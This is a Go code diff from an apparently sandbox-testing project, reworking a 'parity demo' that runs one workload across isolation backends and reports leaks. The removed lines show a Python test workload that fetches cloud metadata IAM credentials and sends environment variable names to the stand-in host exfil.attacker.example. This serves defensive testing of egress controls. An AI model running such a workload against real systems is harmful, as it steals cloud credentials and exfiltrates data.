@@ -15,19 +15,6 @@ import (
 	"github.com/enclave-run/enclave/internal/parity"
 )
 
-// parityCode is the one workload of the parity demo.
-const parityCode = `import os, urllib.request
-try:
-    print(urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/").read())
-except Exception as e:
-    print("metadata:", e)
-try:
-    print(urllib.request.urlopen("http://exfil.attacker.example/exfil?dump=" + ",".join(sorted(os.environ))).read())
-except Exception as e:
-    print("exfil:", e)
-enclave.result({"egressAttempted": True})
-`
-
 const attackerHost = "exfil.attacker.example"
 
 // Modes of the parity demo.
@@ -55,7 +42,8 @@ type target struct {
 
 	problems []string // why it is not safe
 	shape    string   // what must be the same on all
-	shared   bool     // it isolates with the host's own kernel
+	record   parity.Record
+	note     string // what must be said of how it isolates
 }
 
 type paritySummary struct {
@@ -93,8 +81,10 @@ func Parity(ctx context.Context, c Config) (err error) {
 		return err
 	}
 	r := parityReport{Summary: paritySummary{Mode: mode, Failures: []string{}, BackendCount: len(planes)}, Backends: []target{}}
-	req := request(parityCode)
-	req.IdempotencyKey = random() // else each target is given one of its own
+	req, err := json.Marshal(request(parity.EgressCode)) // once: each target gets the same bytes
+	if err != nil {
+		return fmt.Errorf("encode the request: %w", err)
+	}
 	for _, p := range planes {
 		t, err := judgeTarget(ctx, p, req, secrets)
 		if errors.Is(ctx.Err(), context.Canceled) {
@@ -152,13 +142,13 @@ func (c *Config) targets(ctx context.Context) (mode string, planes []*Plane, err
 }
 
 // judgeTarget runs the workload on p.
-func judgeTarget(ctx context.Context, p *Plane, req enclave.SessionRequest, secrets brokered) (target, error) {
+func judgeTarget(ctx context.Context, p *Plane, req []byte, secrets brokered) (target, error) {
 	if p.Inside != nil {
 		if err := secrets.plant(p.Inside.Vault); err != nil {
 			return target{}, err
 		}
 	}
-	s, err := watch(ctx, p, req)
+	s, err := watchBytes(ctx, p, req)
 	if err != nil {
 		return target{}, err
 	}
@@ -167,11 +157,22 @@ func judgeTarget(ctx context.Context, p *Plane, req enclave.SessionRequest, secr
 		return target{}, err
 	}
 	t := judgeSeen(s, secrets.leak(append(s.surfaces, more...)))
-	t.Label, t.BaseURL, t.shared = p.Label, p.BaseURL, s.session.Backend == sharedKernel
+	t.Label, t.BaseURL, t.record, t.note = p.Label, p.BaseURL, s.record(), isolationNote(s.session)
 	if _, err := p.Client.Teardown(ctx, s.session.ID); err != nil {
 		return target{}, err
 	}
 	return t, nil
+}
+
+// isolationNote returns what must be said of a backend that is no boundary.
+func isolationNote(s enclave.Session) string {
+	switch {
+	case s.Backend == sharedKernel:
+		return "the host's own kernel: not a security boundary"
+	case s.Isolation == "emulated":
+		return "software emulation: for development and tests"
+	}
+	return ""
 }
 
 // judgeSeen says what one target showed, and what of it is not safe.
@@ -245,6 +246,12 @@ func (r *parityReport) judge() {
 	if !r.Summary.Parity {
 		r.Summary.Failures = append(r.Summary.Failures, fmt.Sprintf("backends disagreed — %d distinct verdict shapes across %d backends",
 			r.Summary.DistinctVerdictShapes, r.Summary.BackendCount))
+		for _, t := range r.Backends {
+			// What can't be compared is among the problems already.
+			if why, err := parity.Compare(r.Backends[0].record, t.record); err == nil && why != "" {
+				r.Summary.Failures = append(r.Summary.Failures, t.Label+": "+why)
+			}
+		}
 	}
 	r.Summary.Passed = len(r.Summary.Failures) == 0
 }
